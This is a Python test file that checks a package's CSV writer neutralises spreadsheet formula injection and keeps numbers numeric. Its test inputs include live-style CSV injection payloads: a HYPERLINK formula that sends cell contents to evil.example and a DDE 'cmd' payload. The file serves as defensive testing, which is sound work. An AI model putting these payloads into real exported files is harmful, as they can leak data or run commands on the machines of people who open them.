"""Every CSV placeimpact writes neutralises formula cells (OWASP CSV injection) and keeps numbers numeric."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from placeimpact.csvsafe import SafeWriter, csv_text, safe_cell, write_csv

SRC = Path(__file__).resolve().parents[1] / "src" / "placeimpact"
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "  =1+1", "=1+1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_get_a_leading_quote(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", ["-1.5", "+3", "-2e-3", ".5", "12", "Wigan", "", "a=b", "E08000010", "2011/12",
                                   "'already quoted"])
def test_plain_text_and_numeric_text_are_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-1.5, 0, -7, np.float64(-2.25), np.int64(-3), None, float("nan"), True])
def test_numbers_are_never_touched(value):
    out = safe_cell(value)
    assert out is value


def test_a_frame_round_trips_with_numbers_numeric_and_formulas_neutralised():
    df = pd.DataFrame({"indicator_name": ATTACKS[:4], "value": [-1.5, 2.0, -0.25, 3.0], "n": [-1, 2, 3, 4],
                       "unit": ["=cmd", "%", "-per 100,000", None],
                       "cat": pd.Categorical(["@x", "a", "b", "c"])})
    text = csv_text(df)
    back = pd.read_csv(io.StringIO(text))
    assert back["value"].tolist() == [-1.5, 2.0, -0.25, 3.0] and back["value"].dtype == float
    assert back["n"].tolist() == [-1, 2, 3, 4]
    assert back["indicator_name"].tolist() == ["'" + a for a in ATTACKS[:4]]
    assert back["unit"].tolist()[:3] == ["'=cmd", "%", "'-per 100,000"]
    assert back["cat"].tolist()[0] == "'@x"
    rows = list(csv.reader(io.StringIO(text)))
    assert not any(c[:1] != "" and c[:1] in "=+@\t\r" or (c[:1] == "-" and not re.fullmatch(r"-[\d.e-]+", c))
                   for r in rows for c in r)
    assert df["indicator_name"].tolist() == ATTACKS[:4]        # the caller's frame is not changed


def test_header_cells_are_neutralised_too():
    assert csv_text(pd.DataFrame({"=evil": [1]})).splitlines()[0] == "'=evil"


def test_safe_writer_for_plain_rows():
    buf = io.StringIO()
    w = SafeWriter(buf, lineterminator="\n")
    w.writerow(["name", "value"])
    w.writerows([["=1+1", -1.5], ["ok", None]])
    assert buf.getvalue() == "name,value\n'=1+1,-1.5\nok,\n"


def test_write_csv_to_a_path(tmp_path):
    p = tmp_path / "x.csv"
    write_csv(pd.DataFrame({"a": ["@x"], "b": [-1.0]}), p)
    assert p.read_text() == "a,b\n'@x,-1.0\n"


def test_no_csv_is_written_around_the_safe_writer():
    """Every CSV the package writes goes through placeimpact.csvsafe (no raw to_csv or csv.writer elsewhere)."""
    raw = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = [str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
                 if p.name != "csvsafe.py" and raw.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


def test_cli_csv_output_is_neutralised(monkeypatch, capsys):
    from placeimpact.cli._common import Format, emit
    from placeimpact.cli._rows import emit_rows

    emit(pd.DataFrame({"name": ["=HYPERLINK(1)"], "value": [-1.5]}), Format.csv)
    assert capsys.readouterr().out == "name,value\n'=HYPERLINK(1),-1.5\n"
    emit_rows(("name", "value"), [("-2+3+cmd|x", -2.0)], "csv")
    assert capsys.readouterr().out == "name,value\n'-2+3+cmd|x,-2.0\n"


def test_findings_csv_is_neutralised(wigan_report, tmp_path, monkeypatch):
    """The real report's findings.csv, with a formula planted in an indicator name and a unit."""
    from placeimpact.report.html import write_report

    ev, _ = wigan_report
    findings = ev.findings
    findings.loc[findings.index[0], "indicator_name"] = '=HYPERLINK("http://evil.example","x")'
    if "unit" in findings:
        findings.loc[findings.index[0], "unit"] = "-2+3+cmd|' /C calc'!A0"
    monkeypatch.setattr(type(ev), "findings", property(lambda self: findings.copy()))
    out = tmp_path / "r"
    write_report(ev, out)
    back = pd.read_csv(out / "findings.csv")
    assert back["indicator_name"].iloc[0] == "'" + '=HYPERLINK("http://evil.example","x")'
    if "unit" in back:
        assert back["unit"].iloc[0] == "'-2+3+cmd|' /C calc'!A0"
    assert pd.api.types.is_float_dtype(back["estimate"]) and (back["estimate"] < 0).any()
